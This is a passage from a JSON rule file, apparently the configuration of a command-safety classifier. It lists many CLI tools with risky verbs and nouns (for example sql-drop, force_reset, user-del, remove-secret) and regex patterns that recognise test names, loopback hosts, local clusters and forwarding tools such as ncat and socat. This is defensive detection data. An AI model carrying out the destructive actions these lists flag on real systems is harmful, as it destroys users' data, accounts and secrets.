s":["rebuild","reinstall"],"nouns":["config","tag"]},"aliyun":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"tccli":{"verbs":["rebuild","reinstall"\
],"nouns":["config","tag"]},"runpodctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"vastai":{"verbs":["rebuild","reinstall"],"nouns":["config","\
tag"]},"cherryctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"paperspace":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"nova":{"v\
erbs":["rebuild","reinstall"],"nouns":["config","tag"]},"ecs-cli":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"copilot":{"verbs":["rebuild","rein\
stall"],"nouns":["config","tag"]},"eksctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"triton":{"verbs":["rebuild","reinstall"],"nouns":["config\
","tag"]},"heroku":{"nouns":["config"],"spares":["plugins:uninstall","plugins:unlink","auth:logout","accounts:remove"]},"fly":{"verbs":["detach"],"nouns":["imag\
e"],"spares":["auth logout"]},"flyctl":{"verbs":["detach"],"nouns":["image"],"spares":["auth logout"]},"vercel":{"nouns":["dev"]},"now":{"nouns":["dev"]},"netli\
fy":{"nouns":["dev"]},"ntl":{"nouns":["dev"]},"railway":{"verbs":["down"],"nouns":["environment"]},"render":{"nouns":["config"]},"koyeb":{"nouns":["config"]},"n\
orthflank":{"nouns":["config"]},"clever":{"nouns":["config"]},"scalingo":{"nouns":["config"]},"platform":{"nouns":["config"]},"upsun":{"nouns":["config"]},"giga\
lixir":{"nouns":["config"]},"aptible":{"nouns":["config"]},"qovery":{"nouns":["config"]},"cloud66":{"nouns":["config"]},"terminus":{"nouns":["config"]},"acli":{\
"nouns":["config"]},"lagoon":{"nouns":["config"]},"fastly":{"nouns":["config"]},"zeabur":{"nouns":["config"]},"deta":{"nouns":["config"]},"genezio":{"nouns":["c\
onfig"]},"wrangler":{"nouns":["deploy","tail"]},"supabase":{"spares":["migration new"]},"firebase":{"verbs":["disable"],"spares":["target:clear","target:remove"\
]},"appwrite":{"nouns":["config"]},"nhost":{"nouns":["config"]},"xata":{"nouns":["config"]},"convex":{"nouns":["config"]},"amplify":{"nouns":["config"]},"ampx":\
{"nouns":["config"]},"hasura":{"nouns":["config"]},"eb":{"nouns":["config"]},"cf":{"nouns":["config"]},"cf7":{"nouns":["config"]},"cf8":{"nouns":["config"]},"do\
kku":{"nouns":["config","plugin"],"spares":["config show"]},"caprover":{"nouns":["config","plugin"],"spares":["config show"]},"kamal":{"nouns":["config","plugin\
"],"spares":["config show"]},"piku":{"nouns":["config","plugin"],"spares":["config show"]},"surge":{"nouns":["deploy"]},"deployctl":{"nouns":["deploy"]},"neonct\
l":{"nouns":["run","runs","config","tag"]},"neon":{"nouns":["run","runs","config","tag"]},"pscale":{"nouns":["run","runs","config","tag"]},"planetscale":{"nouns\
":["run","runs","config","tag"]},"turso":{"nouns":["run","runs","config","tag"]},"tembo":{"nouns":["run","runs","config","tag"]},"aiven":{"nouns":["run","runs",\
"config","tag"]},"avn":{"nouns":["run","runs","config","tag"]},"ccloud":{"nouns":["run","runs","config","tag"]},"confluent":{"nouns":["run","runs","config","tag\
"]},"atlas":{"nouns":["run","runs","config","tag"]},"mongocli":{"nouns":["run","runs","config","tag"]},"realm-cli":{"nouns":["run","runs","config","tag"]},"astr\
a":{"nouns":["run","runs","config","tag"]},"upstash":{"nouns":["run","runs","config","tag"]},"fauna":{"nouns":["run","runs","config","tag"]},"tb":{"nouns":["run\
","runs","config","tag"]},"ticloud":{"nouns":["run","runs","config","tag"]},"databricks":{"nouns":["run","runs","config","tag"]},"dbfs":{"nouns":["run","runs","\
config","tag"]},"dbt-cloud":{"nouns":["run","runs","config","tag"]},"motherduck":{"nouns":["run","runs","config","tag"]},"gh":{"nouns":["run","label","release",\
"cache","status","events","tag"],"spares":["alias delete","extension remove","auth logout"]},"glab":{"nouns":["run","label","release","cache","status","events",\
"tag"],"spares":["alias delete","extension remove","auth logout"]},"hub":{"nouns":["run","label","release","cache","status","events","tag"],"spares":["alias del\
ete","extension remove","auth logout"]},"tea":{"nouns":["run","label","release","cache","status","events","tag"],"spares":["alias delete","extension remove","au\
th logout"]},"circleci":{"verbs":["remove-secret"],"nouns":["context","contexts","config","run"]},"gitlab-runner":{"nouns":["run"]},"travis":{"verbs":["disable"\
],"nouns":["env","cache","settings"]},"drone":{"nouns":["log","build","cron","info","plugins"]},"woodpecker-cli":{"nouns":["log","build","cron","info","plugins"\
]},"buildkite-agent":{"nouns":["build","pipeline"]},"bk":{"nouns":["build","pipeline"]},"jenkins-cli":{"verbs":["quiet-down","safe-restart","safe-shutdown","shu\
tdown","disable-job","disable-node"],"nouns":["build","config","plugin"]},"jcli":{"verbs":["quiet-down","safe-restart","safe-shutdown","shutdown","disable-job",\
"disable-node"],"nouns":["build","config","plugin"]},"jenkins-jobs":{"verbs":["quiet-down","safe-restart","safe-shutdown","shutdown","disable-job","disable-node\
"],"nouns":["build","config","plugin"]},"tkn":{"nouns":["archive"],"spares":["context delete"]},"argo":{"nouns":["archive"],"spares":["context delete"]},"argocd\
":{"nouns":["archive"],"spares":["context delete"]},"flux":{"nouns":["archive"],"spares":["context delete"]},"kargo":{"nouns":["archive"],"spares":["context del\
ete"]},"harness":{"nouns":["archive"],"spares":["context delete"]},"codefresh":{"nouns":["archive"],"spares":["context delete"]},"sem":{"nouns":["archive"],"spa\
res":["context delete"]},"teamcity":{"nouns":["archive"],"spares":["context delete"]},"appveyor":{"nouns":["archive"],"spares":["context delete"]},"bitrise":{"n\
ouns":["archive"],"spares":["context delete"]},"codemagic":{"nouns":["archive"],"spares":["context delete"]},"cirrus":{"nouns":["archive"],"spares":["context de\
lete"]},"werf":{"nouns":["archive"],"spares":["context delete"]},"octopus":{"nouns":["archive"],"spares":["context delete"]},"depot":{"nouns":["archive"],"spare\
s":["context delete"]},"rancher":{"nouns":["run","config"]},"rke":{"nouns":["run","config"]},"rosa":{"nouns":["run","config"]},"ocm":{"nouns":["run","config"]},\
"tsh":{"nouns":["run","config"]},"tctl":{"nouns":["run","config"]},"k0sctl":{"nouns":["run","config"]},"talosctl":{"nouns":["run","config"]},"omnictl":{"nouns":\
["run","config"]},"kops":{"nouns":["run","config"]},"clusterctl":{"nouns":["run","config"]},"karmadactl":{"nouns":["run","config"]},"vcluster":{"nouns":["run","\
config"]},"tanzu":{"nouns":["run","config"]},"cilium":{"nouns":["run","config"]},"linkerd":{"nouns":["run","config"]},"istioctl":{"nouns":["run","config"]},"con\
sul-k8s":{"nouns":["run","config"]},"kumactl":{"nouns":["run","config"]},"kn":{"nouns":["run","config"]},"faas-cli":{"nouns":["run","config"]},"nuctl":{"nouns":\
["run","config"]},"velero":{"nouns":["run","config"]},"pxctl":{"nouns":["run","config"]},"nixos-container":{"verbs":["deluser","uninit"],"nouns":["config","imag\
e"]},"helmfile":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"machinectl":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"loft":{"verbs"\
:["deluser","uninit"],"nouns":["config","image"]},"stratis":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"apptainer":{"verbs":["deluser","uninit"],\
"nouns":["config","image"]},"singularity":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"prosodyctl":{"verbs":["deluser","uninit"],"nouns":["config"\
,"image"]},"ejabberdctl":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"ykman":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"etckeeper"\
:{"verbs":["deluser","uninit"],"nouns":["config","image"]},"gluster":{"nouns":["image","config","profile"]},"ceph":{"nouns":["image","config","profile"]},"rados\
":{"nouns":["image","config","profile"]},"rbd":{"nouns":["image","config","profile"]},"lxc":{"nouns":["image","config","profile"]},"incus":{"nouns":["image","co\
nfig","profile"]},"multipass":{"nouns":["image","config","profile"]},"govc":{"nouns":["image","config","profile"]},"pvesh":{"nouns":["image","config","profile"]\
},"pveum":{"nouns":["image","config","profile"]},"xe":{"nouns":["image","config","profile"]},"onevm":{"nouns":["image","config","profile"]},"maas":{"nouns":["im\
age","config","profile"]},"hammer":{"nouns":["image","config","profile"]},"juju":{"nouns":["image","config","profile"]},"crane":{"nouns":["tag","repo","image","\
export","config"],"spares":["config remove","config rm"]},"gcrane":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"sk\
opeo":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"regctl":{"nouns":["tag","repo","image","export","config"],"spar\
es":["config remove","config rm"]},"oras":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"notation":{"nouns":["tag","\
repo","image","export","config"],"spares":["config remove","config rm"]},"cosign":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","c\
onfig rm"]},"harbor-cli":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"jf":{"nouns":["tag","repo","image","export",\
"config"],"spares":["config remove","config rm"]},"jfrog":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"cloudsmith"\
:{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"packagecloud":{"nouns":["tag","repo","image","export","config"],"spa\
res":["config remove","config rm"]},"pulp":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"spacectl":{"spares":["plug\
in"]},"tfc":{"spares":["plugin"]},"esc":{"spares":["plugin"]},"sceptre":{"spares":["plugin"]},"sst":{"spares":["plugin"]},"serverless":{"spares":["plugin"]},"sl\
s":{"spares":["plugin"]},"sam":{"spares":["plugin"]},"chalice":{"spares":["plugin"]},"zappa":{"spares":["plugin"]},"cdk":{"spares":["plugin"]},"cdktf":{"spares"\
:["plugin"]},"pulumi":{"spares":["plugin"]},"rabbitmqctl":{"verbs":["force_reset","stop_app","forget_cluster_node"]},"rabbitmqadmin":{"nouns":["context","export\
","import"],"spares":["context rm"]},"nats":{"nouns":["context","export","import"],"spares":["context rm"]},"nsc":{"nouns":["context","export","import"],"spares\
":["context rm"]},"pulsar-admin":{"verbs":["skip-all","skip-messages","expire-messages"]},"pulsarctl":{"verbs":["skip-all","skip-messages","expire-messages"]},"\
rpk":{"nouns":["consume","config"],"spares":["profile delete"]},"kafkactl":{"nouns":["consume","config"],"spares":["profile delete"]},"kaf":{"nouns":["consume",\
"config"],"spares":["profile delete"]},"kcctl":{"nouns":["consume","config"],"spares":["profile delete"]},"etcdctl":{"verbs":["disable","force-leave"],"nouns":[\
"config","plugin","events","connect","session","sessions"]},"consul":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session",\
"sessions"]},"nomad":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"vault":{"verbs":["disable","force-\
leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"bao":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","conne\
ct","session","sessions"]},"boundary":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"influx":{"nouns":\
["config","query"],"spares":["config rm"]},"influxdb3":{"nouns":["config","query"],"spares":["config rm"]},"promtool":{"nouns":["config","query"],"spares":["con\
fig rm"]},"amtool":{"nouns":["config","query"],"spares":["config rm"]},"mimirtool":{"nouns":["config","query"],"spares":["config rm"]},"cortextool":{"nouns":["c\
onfig","query"],"spares":["config rm"]},"logcli":{"nouns":["config","query"],"spares":["config rm"]},"grafanactl":{"nouns":["config","query"],"spares":["config \
rm"]},"meilisearch":{},"algolia":{},"typesense-cli":{},"esctl":{},"ecctl":{},"qdrant":{},"weaviate":{},"pinecone":{},"milvus_cli":{},"vespa":{},"s4cmd":{"nouns"\
:["link"]},"storj":{"nouns":["link"]},"uplink":{"nouns":["link"]},"w3":{"nouns":["link"]},"dbxcli":{"nouns":["link"]},"gdrive":{"nouns":["link"]},"mega-rm":{"no\
uns":["link"]},"stripe":{"verbs":["cancel","void","void_invoice"],"nouns":["events"],"spares":["config"]},"twilio":{"nouns":["config"],"spares":["config:remove"\
,"profiles:remove","plugins:remove","plugins:uninstall"]},"sendgrid":{"nouns":["config"],"spares":["config:remove","profiles:remove","plugins:remove","plugins:u\
ninstall"]},"plivo":{"nouns":["config"],"spares":["config:remove","profiles:remove","plugins:remove","plugins:uninstall"]},"vonage":{"nouns":["config"],"spares"\
:["config:remove","profiles:remove","plugins:remove","plugins:uninstall"]},"telnyx":{"nouns":["config"],"spares":["config:remove","profiles:remove","plugins:rem\
ove","plugins:uninstall"]},"shopify":{"nouns":["config","space","extension"]},"contentful":{"nouns":["config","space","extension"]},"sanity":{"nouns":["config",\
"space","extension"]},"prismic":{"nouns":["config","space","extension"]},"storyblok":{"nouns":["config","space","extension"]},"datocms":{"nouns":["config","spac\
e","extension"]},"hygraph":{"nouns":["config","space","extension"]},"commercetools":{"nouns":["config","space","extension"]},"saleor":{"nouns":["config","space"\
,"extension"]},"webflow":{"nouns":["config","space","extension"]},"bigcommerce":{"nouns":["config","space","extension"]},"sentry-cli":{"verbs":["disable"],"noun\
s":["events","files","config","tail","search"]},"rollbar-cli":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"bugsnag-cli":{"verbs":[\
"disable"],"nouns":["events","files","config","tail","search"]},"datadog-ci":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"snyk":{"\
verbs":["disable"],"nouns":["events","files","config","tail","search"]},"pagerduty":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"d\
og":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"newrelic":{"verbs":["disable"],"nouns":["events","files","config","tail","search"\
]},"pd":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"opsgenie":{"verbs":["disable"],"nouns":["events","files","config","tail","sea\
rch"]},"honeycomb":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"axiom":{"verbs":["disable"],"nouns":["events","files","config","ta\
il","search"]},"checkly":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"papertrail":{"verbs":["disable"],"nouns":["events","files","\
config","tail","search"]},"lacework":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"snyk-api-import":{"verbs":["disable"],"nouns":["\
events","files","config","tail","search"]},"splunk":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"auth0":{"verbs":["user-del","grou\
p-del","host-del"],"nouns":["logs"]},"okta":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"clerk":{"verbs":["user-del","group-del","host-del"],\
"nouns":["logs"]},"workos":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"zitadel":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"\
]},"ory":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"kcadm":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"kcadm.sh":{"verb\
s":["user-del","group-del","host-del"],"nouns":["logs"]},"keycloak-cli":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"fusionauth":{"verbs":["u\
ser-del","group-del","host-del"],"nouns":["logs"]},"ipa":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"samba-tool":{"verbs":["user-del","group\
-del","host-del"],"nouns":["logs"]},"jumpcloud":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"op":{"verbs":["suspend"],"nouns":["config","conf\
igs","settings","history"],"spares":["config"]},"bw":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"bws":{"verbs":\
["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"lpass":{"verbs":["suspend"],"nouns":["config","configs","settings","history"\
],"spares":["config"]},"rbw":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"doppler":{"verbs":["suspend"],"nouns":\
["config","configs","settings","history"],"spares":["config"]},"infisical":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["con\
fig"]},"chamber":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"credstash":{"verbs":["suspend"],"nouns":["config",\
"configs","settings","history"],"spares":["config"]},"berglas":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"akey\
less":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"conjur":{"verbs":["suspend"],"nouns":["config","configs","set\
tings","history"],"spares":["config"]},"keeper":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"dcli":{"verbs":["su\
spend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"dotenv-vault":{"verbs":["suspend"],"nouns":["config","configs","settings","histo\
ry"],"spares":["config"]},"keybase":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"ldcli":{"nouns":["config"]},"la\
unchdarkly":{"nouns":["config"]},"flagsmith":{"nouns":["config"]},"configcat":{"nouns":["config"]},"statsig":{"nouns":["config"]},"ngrok":{"verbs":["cleanup","r\
rdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"tailscale":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":\
["config"]},"cloudflared":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"zerotier-cli":{"verbs":["cleanup","rrdelet\
e","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"netbird":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config\
"]},"headscale":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"flarectl":{"verbs":["cleanup","rrdelete","rrpurge"],\
"nouns":["tunnel","config"],"spares":["config"]},"cli4":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"cli53":{"ver\
bs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"dnscontrol":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","\
config"],"spares":["config"]},"octodns-sync":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"pdnsutil":{"verbs":["cl\
eanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"akamai":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"sp\
ares":["config"]},"linear":{"nouns":["workflow","env","config","connections"]},"jira":{"nouns":["workflow","env","config","connections"]},"airtable":{"nouns":["\
workflow","env","config","connections"]},"m365":{"nouns":["workflow","env","config","connections"]},"o365":{"nouns":["workflow","env","config","connections"]},"\
gam":{"nouns":["workflow","env","config","connections"]},"temporal":{"nouns":["workflow","env","config","connections"]},"zbctl":{"nouns":["workflow","env","conf\
ig","connections"]},"prefect":{"nouns":["workflow","env","config","connections"]},"dagster-cloud":{"nouns":["workflow","env","config","connections"]},"astro":{"\
nouns":["workflow","env","config","connections"]},"airflow":{"nouns":["workflow","env","config","connections"]},"fivetran":{"nouns":["workflow","env","config","\
connections"]},"octavia":{"nouns":["workflow","env","config","connections"]},"posthog":{"nouns":["workflow","env","config","connections"]},"trello":{"nouns":["w\
orkflow","env","config","connections"]},"huggingface-cli":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"hf":{"nouns":["run"],"spares":["\
delete-cache","cache prune","cache rm"]},"modal":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"replicate":{"nouns":["run"],"spares":["de\
lete-cache","cache prune","cache rm"]},"wandb":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"clearml":{"nouns":["run"],"spares":["delete\
-cache","cache prune","cache rm"]},"mlflow":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"kaggle":{"nouns":["run"],"spares":["delete-cac\
he","cache prune","cache rm"]},"truss":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"anyscale":{"nouns":["run"],"spares":["delete-cache"\
,"cache prune","cache rm"]},"sky":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"eas":{"nouns":["build"]},"appcenter":{"nouns":["build"]}\
,"code-push":{"nouns":["build"]},"saucectl":{"nouns":["build"]},"wp":{"verbs":["clean"],"nouns":["plugin","config"],"spares":["cache","transient","rewrite","pac\
kage uninstall"]},"wp-cli":{"verbs":["clean"],"nouns":["plugin","config"],"spares":["cache","transient","rewrite","package uninstall"]},"wp-cli.phar":{"verbs":[\
"clean"],"nouns":["plugin","config"],"spares":["cache","transient","rewrite","package uninstall"]},"drush":{"verbs":["cancel","sql-drop"],"nouns":["config"],"sp\
ares":["cache:clear","cache-clear","state:delete"]},"drush.phar":{"verbs":["cancel","sql-drop"],"nouns":["config"],"spares":["cache:clear","cache-clear","state:\
delete"]},"drupal":{"verbs":["cancel","sql-drop"],"nouns":["config"],"spares":["cache:clear","cache-clear","state:delete"]},"prisma":{"nouns":["migrate"]},"driz\
zle-kit":{"nouns":["migrate"]},"ghost":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"magento":{"nouns":["config","plugin"],"spares":["indexer:reset"\
]},"bin/magento":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"n98-magerun2":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"typo3":{"noun\
s":["config","plugin"],"spares":["indexer:reset"]},"moosh":{"nouns":["config","plugin"],"spares":["indexer:reset"]}}},"forms":{"forms":{"scratch_name":["(?:^|[-\
_./])(?:tmp|temp|tests?|testing|scratch|throwaway|demo|probe|trial|try|spike|check|dummy|sandbox|wip|foo|bar|e2e|smoke|ci|(?:ci|e2e|unit|smoke)tests?|(?:scratch\
|tmp|throwaway)\\\\w{1,9}|t\\\\d+)(?:[-_./]|\\\\d|$)","i"],"test_thing":["(?:^|[-_./])(?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|smoke|ci|(?:ci|e2e|unit\
|smoke)tests?)(?:[-_./]|$)","i"],"kept_name":["prod|live|main|master|stag|release|data|backup|company","i"],"makes_new":["^(?:createdb|git tag|kind create|k3d c\
luster create) "],"unique_output":["^(?:date \\\\+%s(?:%N)?|uuidgen(?: -[rt])?|openssl rand -hex [1-9]\\\\d*|(?:docker|podman) (?:volume|network) create)$"],"beside\
_ignored":["\\\\b(?:iex|Invoke-Expression|\\\\w*alias|sal|nal|function|class)\\\\b|\\\\.Invoke\\\\b|GetScriptBlock|&","i"],"constant_list":["\\\\$(\\\\w{1,40})(?: {0,4}= {0,4\
}| in )(?:@\\\\()?((?:\\"[^\\"\\\\n]*\\"|'[^'\\\\n]*')(?:\\\\s{0,40},\\\\s{0,40}(?:\\"[^\\"\\\\n]*\\"|'[^'\\\\n]*'))*)(?=[\\\\s;)])","gi"],"loop_over_variable":["\\\\(\\\\$(\\\\w{1,40}) in\
 \\\\$(\\\\w{1,40})\\\\)","gi"],"variable_use":["(?<=\\\\s)\\\\$(\\\\w{1,40})\\\\b(?! *=| in )","gi"],"local_cluster":["^(?!.*(?:--(?:server|kubeconfig|cluster|user|as|token|\
kube-apiserver|kube-as\\\\S*)\\\\b| -s))(?!.*-context.*-context).* --(?:kube-)?context[= ](?:kind|k3d)-(?!\\\\S*(?:prod|live|stag))[\\\\w-]+(?: |$)"],"server_place":["(\
?:\\\\blocalhost:|\\\\b127\\\\.0\\\\.0\\\\.1:| -[pP] ?| --port[= ])(\\\\d{4,5})(?=[ /?])| (?:-[Ss]|--socket|-h)[= ]?(/tmp/tmp\\\\.\\\\uFFFC/\\\\S+)","g"],"container_start":["^(?:\
docker|podman) run (?!.*(?: -v| --volume| --mount| --link| --net|=\\\\S*:\\\\d|HOST=|UR[LI]=|ADDR=))"],"server_start":["^(?!.*--(?:replicaof|slaveof|cluster))(?:red\
is-server|valkey-server|mongod|mysqld|postgres)(?!.* (?:-h|--help|--version|-v) ) .*--port[= ](\\\\d{4,5}) "],"usual_port":["^(?:63[78]\\\\d|2701[789]|330[67]|543[0\
-9]|9200|11211)$"],"other_server":["(?: -h| --host)(?![= ]?(?:localhost |127\\\\.0\\\\.0\\\\.1 |/))|@(?!localhost|127\\\\.0\\\\.0\\\\.1)|://(?!(?:[^@/ ]*@)?(?:localhost|127\
\\\\.0\\\\.0\\\\.1):)|\\\\bhost(?:addr)?=(?!localhost)|HOST=(?!localhost |127)"],"list_of_deleted":["^git (?:ls-files(?: -z)? (?:-d|--deleted)(?: -z)?|diff(?=.* --diff-\
filter=D)(?: --name-only| --diff-filter=D| -z){2,3})$"],"named_here":["^(?!.*(?:--(?:all|purge)\\\\b| -\\\\w*a\\\\w*(?: |$)| (?:-f|--file)\\\\b.* (?:-f|--file)\\\\b))(?:k\
ind delete cluster (?:--name[= ])?|k3d cluster delete |minikube delete (?:-p|--profile)[= ]|(?:docker|podman|nerdctl)(?:-| )compose (?:.*(?:-p|--project-name)[=\
 ]|(?!.*(?: -p|--project-name)[= ]).*(?:-f|--file)[= ]))(?!-)([\\\\w./-]+)(?= (?:down|rm) |$| -)"],"in_new_folder":["^/tmp/tmp[.]\\\\u{FFFC}/[^/]+$","u"],"remote_se\
tting":["(?:^|\\\\s)(?:remote(?:\\\\.[\\\\w-]+\\\\.\\\\w*url|\\\\.pushDefault| add| set-url)|\\\\S*pushRemote)","i"],"brings_files":["^(?:cp|ln|mv|rsync|tar|unzip|scp|mount|\\\
\\w*fs|\\\\w*fuse|rclone)$"],"restoring_word":["^(?:checkout|restore|--|\\\\u{FFFC})$","u"],"compose_down":["^(?:docker|podman)(?: compose|-compose) .*\\\\bdown\\\\b"],"\
project_name":[" (?:-p|--project-name)[= ](\\\\S+)"],"unique_setting":["^COMPOSE_PROJECT_NAME=[\\\\w-]*7340281946"],"unique_project":[" (?:-p|--project-name)[= ](?:\
(?!\\\\S*[/~])[\\\\w-]*7340281946\\\\S*|(?!\\\\S*(?:prod|live|main|master|stag|release|data|backup|company))(?:(?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|\
smoke|ci|(?:ci|e2e|unit|smoke)tests?)(?:[-_][\\\\w-]*)?|[\\\\w-]*[-_](?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|smoke|ci|(?:ci|e2e|unit|smoke)tests?)(\
?:[-_]?\\\\d+)?)(?= ))"],"compose_program":["^(?:docker|podman|nerdctl|docker-compose|podman-compose)$"],"timing_wrapper":["^(?:time|timeout|env|(?:ba)?sh|nice)$"\
],"compose_variable":["^(?:DOCKER_HOST|DOCKER_CONTEXT|COMPOSE_\\\\w+|CONTAINER_HOST)$"],"compose_place":[" (?:-p|--project-name|--project-directory|-H|--host|-c|-\
-context)|(?: -f|--file)[= ]?(?:[/~]|\\\\.\\\\.)|(?:-f|--file|--env-file|--profile)[= ]?\\\\S*prod"],"context_change":["^(?:docker context use|docker-machine|eval |ex\
port DOCKER)|DOCKER_HOST="],"git_step":["^--(?:continue|skip|abort|quit|show-current-patch|edit-todo)$"],"cluster_tool":["^(?:kubectl|helm|kind|k3d|docker|echo|\
printf|sleep|true|cat|grep|head|tail|jq|wc|date|mktemp|test|\\\\[|wait|cd|set|mkdir|trap)$"],"database_client":["^(?:redis-cli|valkey-cli|mongosh?)$"],"server_pro\
gram":["^(?:mysqld(?:_safe)?|mariadbd|postgres|pg_ctl|redis-server|valkey-server|mongod)$"],"place_variable":["HOST|URL|SERVICE|PORT|ADDR|SOCK|DEFAULTS"],"forwa\
rding_program":["^(?:ssh|socat|stunnel|ln|kubectl|haproxy|iptables|nft|ncat|source|\\\\.)$"],"leaves_database":["\\\\\\\\c|\\\\buse\\\\b|\\\\w\\\\.\\\\w|=\\"?\\\\w|://|^-h|^--host\
"],"git_abort":["^(merge|rebase|cherry-pick|revert|am) --abort$"],"placeless_flag":["^(?:-[aefiqy]|--(?:name|if-exists|force|echo|quiet|yes|wait|verbose|timeout\
|no-[\\\\w-]+)|\\\\d+[sm])$"],"cluster_creation":["^(?:kind create cluster|k3d cluster create)(?!.* -h\\\\b)(?!.*--(?:help|switch-context|update-default|kubeconfig-))\
"],"cluster_settings":[" --kubeconfig[= ](/tmp/\\\\S+)"],"other_cluster":["\\\\bctx\\\\b|\\\\bcurrent-context|--user\\\\b|\\\\s-s\\\\S|\\\\buse-context|^kubectx|\\\\bset-context|\
--(?:kube-?)?(?:context|config|cluster)\\\\b|--server\\\\b|\\\\s-s\\\\s|^kind export|^kubectl config|^docker (?:run|exec|cp)|KUBECONFIG"],"near_wrapper":["^(?:(?:ba)?sh\
|sudo|env|time|timeout|psql|mysql|mariadb)$"],"code_wrapper":["^(?:python[\\\\d.]*|node|deno|bun|ruby|perl|php)$"],"naming_option":["^--?(?:[\\\\w-]*(?:name|bucket|\
cluster|topic|queue|identifier|stack|table|database|volume|repo|id|group)|n|p)(?:=|$)"],"temporary_file":["^/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.).+"],"loopback"\
:["^UseDevelopmentStorage=true$|^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\\\\s]*@)?(?:localhost|127(?:\\\\.\\\\d+){3}|\\\\[::1\\\\])(?::\\\\d+)?(?:/|$)"],"test_name":["^(?:.*[/_-])\
?(?:test|tests|testing|scratch|tmp)(?:[_-][\\\\w\\\\u{FFFC}-]*)?\\\\d*(?:\\\\.(?:db|sqlite3?))?(?:\\\\?.*)?$","u"],"passing_file":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)\
/(?!.*\\\\.\\\\.))"],"passing_address":["^(?:(?:file|sqlite\\\\d?):(?://)?/?)?/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)|^(?:file:|sqlite\\\\d?:(?://)?/?)?:memory:(?:\\\\?.*)?\
